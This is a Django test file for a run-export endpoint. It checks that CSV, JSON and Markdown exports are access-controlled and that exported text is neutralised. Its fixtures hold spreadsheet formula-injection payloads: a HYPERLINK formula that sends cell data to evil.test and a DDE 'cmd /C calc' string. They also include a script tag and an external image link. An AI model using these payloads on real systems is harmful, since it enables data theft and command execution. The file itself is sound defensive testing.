"""GET /runs/{id}/export: a run as a file, whole, and harmless where it is opened."""

import csv
import io
import json

from django.test import Client

from playground import voting
from playground.models import Call, Vote
from tests.api import ApiTestCase
from tests.make import make_call, make_endpoint, make_run

NASTY = '=HYPERLINK("http://evil.test?"&A1,"click")\r\nsecond line, with "quotes"\t你好 👩🏽‍🚀'
SECRET = "dapi0123456789abcdef0123456789abcdef"


class ExportTestCase(ApiTestCase):
    def setUp(self) -> None:
        self.endpoint = make_endpoint(self.alice, name="=cmd|' /C calc'!A0")
        self.run_ = make_run(
            self.alice, self.endpoint, prompt="+1+1", status=Call.Status.DONE, text=NASTY
        )

    def export(self, format: str, user=None):
        return self.api(user or self.alice, "GET", f"/runs/{self.run_.pk}/export?format={format}")

    def rows(self) -> list[dict]:
        text = self.export("csv").content.decode("utf-8-sig")
        return list(csv.DictReader(io.StringIO(text, newline="")))


class ExportTests(ExportTestCase):
    def test_it_is_an_attachment_under_a_name_of_ours(self) -> None:
        kinds = {"json": "application/json", "csv": "text/csv", "md": "text/markdown"}
        for format, kind in kinds.items():
            response = self.export(format)
            self.assertEqual(response.status_code, 200)
            name = f'attachment; filename="run-{self.run_.pk}.{format}"'
            self.assertEqual(response["Content-Disposition"], name)
            self.assertEqual(response["Content-Type"], f"{kind}; charset=utf-8")
            self.assertEqual(response["X-Content-Type-Options"], "nosniff")
            self.assertEqual(response["Cache-Control"], "no-store")
            self.assertIn("default-src 'none'", response["Content-Security-Policy"])

    def test_what_is_not_yours_is_a_404(self) -> None:
        for user in (self.bob, self.charlie):
            self.assert_error(self.export("csv", user), 404, "not_found")

    def test_a_session_will_do_and_the_page_links_to_it(self) -> None:
        self.log_in(self.alice)
        page = self.client.get(f"/runs/{self.run_.pk}/").content.decode()
        for format in ("json", "csv", "md"):
            path = f"/api/v1/runs/{self.run_.pk}/export?format={format}"
            self.assertIn(f'href="{path}"', page)
            self.assertEqual(self.client.get(path).status_code, 200)
        self.assertEqual(Client().get(path).status_code, 401)

    def test_another_format_is_refused_with_those_there_are(self) -> None:
        for query in ("?format=xlsx", "", "?format=csv&all=1"):
            path = f"/runs/{self.run_.pk}/export{query}"
            response = self.api(self.alice, "GET", path)
            self.assertEqual(response.status_code, 422, query)


class JsonExportTests(ExportTestCase):
    def test_it_holds_everything_exactly(self) -> None:
        facts = {"reasoning": "hm", "usage": {"input_tokens": 3, "output_tokens": 5}}
        facts |= {"request": {"method": "POST"}, "response": {"status": 200, "body": NASTY}}
        Call.objects.update(**facts)
        make_call(self.run_, self.endpoint, attempt=2, position=0, status=Call.Status.FAILED)
        exported = json.loads(self.export("json").content)
        self.assertEqual(exported["messages"], [{"role": "user", "content": "+1+1"}])
        first, second = exported["calls"]
        self.assertEqual((first["text"], first["reasoning"]), (NASTY, "hm"))
        self.assertEqual(first["request"], {"method": "POST"})
        self.assertEqual(first["response"], {"status": 200, "body": NASTY})
        self.assertEqual((first["attempt"], second["attempt"]), (1, 2))
        one = self.ok(self.api(self.alice, "GET", f"/calls/{first['id']}"))
        self.assertEqual(first, one)

    def test_half_a_surrogate_pair_survives(self) -> None:
        Call.objects.update(choices=[{"index": 0, "text": "\ud800", "tool_calls": []}])
        call = {"finish_reason": None, "reasoning": ""}
        Call.objects.update(choices=[{"index": 0, "text": "\ud800", "tool_calls": []} | call])
        exported = json.loads(self.export("json").content)
        self.assertEqual(exported["calls"][0]["choices"][0]["text"], "\ud800")
        self.assertEqual(self.export("csv").status_code, 200)
        self.assertEqual(self.export("md").status_code, 200)


class VoteExportTests(ExportTestCase):
    """The votes of who takes the run away, and nobody else's."""

    def setUp(self) -> None:
        super().setUp()
        self.call = self.run_.calls.get()
        Vote.objects.create(call=self.call, user=self.bob, value=1, is_best=True)

    def exported(self) -> tuple:
        (row,) = self.rows()
        call = json.loads(self.export("json").content)["calls"][0]
        facts = self.export("md").content.decode().split("done, ")[1].splitlines()[0]
        return row["vote"], row["best"], call["vote"], facts

    def test_it_is_in_every_format(self) -> None:
        self.assertEqual(self.exported(), ("", "", None, "latency 0 ms"))
        voting.vote(self.alice, self.call, voting.DOWN)
        down = {"value": -1, "best": False}
        self.assertEqual(self.exported(), ("-1", "", down, "latency 0 ms, vote bad"))
        voting.vote(self.alice, self.call, voting.NEITHER)
        voting.mark_best(self.alice, self.call, True)
        best = {"value": 0, "best": True}
        self.assertEqual(self.exported(), ("", "1", best, "latency 0 ms, best of this run"))


class CsvExportTests(ExportTestCase):
    def test_a_row_for_each_call_with_its_text_untouched_but_for_the_apostrophe(self) -> None:
        (row,) = self.rows()
        self.assertEqual(row["text"], f"'{NASTY}")
        self.assertEqual(row["endpoint"], f"'{self.endpoint.name}")
        self.assertEqual(json.loads(row["asked"])[0]["content"], "+1+1")
        self.assertEqual((row["column"], row["status"], row["attempt"]), ("A", "done", "1"))

    def test_no_cell_begins_a_formula(self) -> None:
        for begins in ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠"):
            for before in ("", " ", "\u00a0", "\ufeff", "\u200b", "   "):
                with self.subTest(begins=begins, before=before):
                    Call.objects.update(text=f"{before}{begins}1+1", reasoning="@SUM(A1)")
                    (row,) = self.rows()
                    self.assertTrue(row["text"].startswith("'"))
                    self.assertTrue(row["reasoning"].startswith("'"))

    def test_every_cell_is_quoted(self) -> None:
        Call.objects.update(text="plain")
        text = self.export("csv").content.decode("utf-8-sig")
        rewritten = io.StringIO()
        rows = csv.reader(io.StringIO(text, newline=""))
        csv.writer(rewritten, quoting=csv.QUOTE_ALL).writerows(rows)
        self.assertEqual(text, rewritten.getvalue())

    def test_harmless_text_stays_as_it_is(self) -> None:
        for text in ("1 - 2 = -1", "a@b.test", "'quoted", "5", "", "你好"):
            Call.objects.update(text=text)
            self.assertEqual(self.rows()[0]["text"], text)

    def test_numbers_are_numbers_and_what_is_unknown_is_empty(self) -> None:
        Call.objects.update(usage={"input_tokens": 3, "output_tokens": None}, ttft_ms=12)
        (row,) = self.rows()
        self.assertEqual((row["input_tokens"], row["output_tokens"]), ("3", ""))
        self.assertEqual((row["ttft_ms"], row["error"]), ("12", ""))


class MarkdownExportTests(ExportTestCase):
    def test_no_text_gets_out_of_its_fence(self) -> None:
        text = "```\n# Not a heading\n````\n<script>alert(1)</script>\n![x](http://evil.test/x)"
        Call.objects.update(text=text)
        exported = self.export("md").content.decode()
        self.assertIn(f"\n`````\n{text}\n`````\n", exported)
        outside, inside = [], False
        for line in exported.splitlines():
            if line.startswith("`````"):
                inside = not inside
            elif not inside:
                outside.append(line)
        self.assertNotIn("script", "".join(outside))

    def test_names_stay_on_their_line_and_in_code(self) -> None:
        Call.objects.update(config=Call.objects.get().config | {"name": "a`b\n# c"})
        self.assertIn("## A `` a`b # c ``", self.export("md").content.decode())

    def test_it_says_how_it_went(self) -> None:
        error = {"kind": "timeout", "message": "It took too long.", "hint": "Try again."}
        Call.objects.update(status="failed", error=error, latency_ms=42, text="")
        exported = self.export("md").content.decode()
        self.assertIn("failed, latency 42 ms", exported)
        self.assertIn("It took too long.", exported)
